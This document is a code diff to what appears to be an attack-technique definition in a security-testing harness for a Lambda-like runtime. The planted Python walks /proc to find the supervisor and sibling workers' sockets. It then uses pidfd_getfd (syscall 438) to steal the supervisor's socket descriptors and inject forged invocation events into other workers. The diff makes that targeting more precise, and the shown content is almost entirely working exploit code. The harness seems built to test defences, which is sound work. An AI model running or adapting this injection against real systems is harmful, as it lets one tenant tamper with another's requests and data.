@@ -38,24 +38,23 @@ else:
         "lambda-runtime-invoked-function-arn": "x",
         "content-type": "application/json",
     }
-    supervisor = int(open("/proc/%d/stat" % os.getppid()).read().rpartition(")")[2].split()[1])
+    def parent(pid):
+        return int(open("/proc/%d/stat" % pid).read().rpartition(")")[2].split()[1])
+    def sockets(pid):
+        links = {number: os.readlink("/proc/%d/fd/%s" % (pid, number)) for number in os.listdir("/proc/%d/fd" % pid)}
+        return {int(number): int(link[8:-1]) for number, link in links.items() if link.startswith("socket:[")}
+    zygote = os.getppid()
+    supervisor = parent(zygote)
+    end = time.time() + 1
+    waiting = set()
+    while not waiting and time.time() < end:
+        waiting = {inode for pid in others() if parent(pid) == zygote for inode in sockets(pid).values()}
     handle = os.pidfd_open(supervisor)
-    is_first = True
-    for number in range(64):
-        copy = ctypes.CDLL(None).syscall(438, handle, number, 0)
-        if copy < 0:
-            continue
-        try:
-            one = socket.socket(fileno=copy)
-        except OSError:
-            continue
-        if one.family != socket.AF_UNIX:
-            continue
-        # The first is the zygote's.
-        if not is_first:
-            try: one.sendall(pack_event(bytes(16), headers, body))
-            except OSError: pass
-        is_first = False
+    for number, inode in sockets(supervisor).items():
+        # The two ends of a pair are made one after the other.
+        if {inode - 1, inode + 1} & waiting:
+            copy = ctypes.CDLL(None).syscall(438, handle, number, 0)
+            socket.socket(fileno=copy).sendall(pack_event(bytes(16), headers, body))
     time.sleep(0.2)
 """
 )
@@ -68,5 +67,6 @@ TECHNIQUE = Technique(
     plant=PLANT,
     evidence=Cards(),
     spoils=True,
+    undefended={"DAYFLY_CLOSE_MEMORY": "off"},
     process="may reach",
 )
